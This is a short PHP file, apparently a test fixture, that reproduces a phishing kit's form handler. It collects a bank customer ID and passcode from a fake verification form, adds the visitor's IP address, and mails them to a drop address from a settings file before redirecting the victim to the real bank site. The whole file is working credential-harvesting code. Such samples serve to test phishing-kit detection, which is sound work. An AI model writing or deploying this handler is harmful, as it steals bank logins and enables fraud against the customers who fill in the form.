<?php
// a phishing kit's form handler whose drop address sits in the kit's settings file
// (written for the tests, never run)
require_once __DIR__ . '/settings.php';
$visitor = $_SERVER['REMOTE_ADDR'];
$acct = trim($_POST['acct']);
$body  = "==== Bank Verify ====\n";
$body .= "Customer ID : " . $acct . "\n";
$body .= "Passcode    : " . $_POST['pc'] . "\n";
$body .= "From        : " . $visitor . "\n";
mail("$dropbox", "Verify | $visitor", $body);
header("Location: https://www.example-bank.com/");
